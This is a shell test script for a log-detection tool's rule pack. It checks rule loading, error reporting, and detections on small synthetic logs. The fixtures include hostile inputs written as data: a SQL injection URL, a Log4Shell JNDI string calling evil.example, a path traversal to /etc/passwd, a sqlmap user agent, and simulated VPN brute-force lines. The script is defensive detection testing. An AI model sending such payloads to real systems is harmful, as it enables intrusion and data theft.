#!/bin/bash
# yamori rules check / test against the shipped rule pack and tiny logs with
# known answers (a web attack in JSON logs, a VPN brute force from ASA logs,
# a malformed rule). Env: YAMORI (binary), YM_SRC (repo).
set -u
YAMORI=${YAMORI:?path of the yamori binary}
YM_SRC=${YM_SRC:?repo}
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
fail=0
pass=0
check() { # name, condition result
    if [ "$2" = 0 ]; then pass=$((pass + 1)); else echo "FAIL: $1"; fail=$((fail + 1)); fi
}

# 1. The rule pack loads without errors and has at least 40 rules.
"$YAMORI" rules check "$YM_SRC/rules" --json >"$tmp/check.json" 2>"$tmp/check.err"
check "rules check exits 0 on the shipped pack" $?
ok=$(grep -c '"status":"ok"' "$tmp/check.json")
[ "$ok" -ge 40 ]
check "at least 40 ok rules (got $ok)" $?

# 2. A broken rule is reported with file, line and reason; exit status 1.
mkdir "$tmp/bad"
printf 'title: good\nid: g\nlogsource: {category: firewall}\ndetection:\n  s:\n    a: 1\n  condition: s\n---\ntitle: bad\nid: b\nlogsource: {category: firewall}\ndetection:\n  s:\n    a|nosuch: 1\n  condition: s\n' >"$tmp/bad/r.yml"
"$YAMORI" rules check "$tmp/bad" --json >"$tmp/bad.json" 2>/dev/null
check "rules check exits 1 on a rule error" $([ $? = 1 ]; echo $?)
grep -q '"line":14,"id":"b","title":"bad","status":"error"' "$tmp/bad.json"
check "error names line 14 of the bad rule" $?
grep -q '"id":"g","title":"good","status":"ok"' "$tmp/bad.json"
check "the good rule still loads" $?

# 3. Web attacks in JSON logs (ECS names), line numbers from 1.
cat >"$tmp/web.log" <<'LOGS'
{"@timestamp":"2026-11-22T10:00:00Z","url":{"original":"/index.html"},"user_agent":{"original":"Mozilla/5.0"}}
{"@timestamp":"2026-11-22T10:00:01Z","url":{"original":"/item?id=1%20UNION%20SELECT%20pass%20FROM%20users"},"user_agent":{"original":"Mozilla/5.0"}}

{"@timestamp":"2026-11-22T10:00:02Z","url":{"original":"/x"},"user_agent":{"original":"${jndi:ldap://evil.example/a}"}}
{"@timestamp":"2026-11-22T10:00:03Z","url":{"original":"/../../etc/passwd"},"user_agent":{"original":"sqlmap/1.7.2"}}
LOGS
"$YAMORI" rules test "$YM_SRC/rules" "$tmp/web.log" --kind json --json >"$tmp/web.out" 2>"$tmp/web.err"
check "rules test exits 0" $?
sqli=$(grep -o '"line":[0-9]*,"rule":"[^"]*","title":"SQL injection attempt in URL"' "$tmp/web.out" | cut -d, -f1)
[ "$sqli" = '"line":2' ]
check "SQL injection on line 2 (got '$sqli')" $?
grep -q '"line":4,"rule":"[^"]*","title":"Log4Shell-style JNDI lookup string"' "$tmp/web.out"
check "JNDI string on line 4 (blank line 3 counted)" $?
grep -q '"line":5,"rule":"[^"]*","title":"Path traversal attempt in URL"' "$tmp/web.out"
check "path traversal on line 5" $?
grep -q '"line":5,"rule":"[^"]*","title":"Web vulnerability scanner user agent"' "$tmp/web.out"
check "scanner user agent on line 5" $?
! grep -q '"line":1,' "$tmp/web.out"
check "nothing on the benign line 1" $?

# 4. VPN brute force from ASA logs: the 10th rejection within 10 minutes fires.
for i in $(seq 0 11); do
    printf '<166>Nov 22 2026 10:%02d:00 fw1 : %%ASA-6-113005: AAA user authentication Rejected : reason = Invalid password : server = 10.1.2.3 : user = u%d : user IP = 203.0.113.7\n' "$i" "$i"
done >"$tmp/asa.log"
"$YAMORI" rules test "$YM_SRC/rules" "$tmp/asa.log" --kind asa --json >"$tmp/asa.out" 2>"$tmp/asa.err"
check "rules test on ASA logs exits 0" $?
grep -q '"line":10,"rule":"[^"]*","title":"VPN brute force: many rejected logins from one address"' "$tmp/asa.out"
check "VPN brute force completes on line 10" $?
grep -q '"line":5,"rule":"[^"]*","title":"VPN password spray: many user names from one address"' "$tmp/asa.out"
check "password spray completes on line 5 (5 user names)" $?

echo "$pass passed, $fail failed"
[ "$fail" = 0 ]
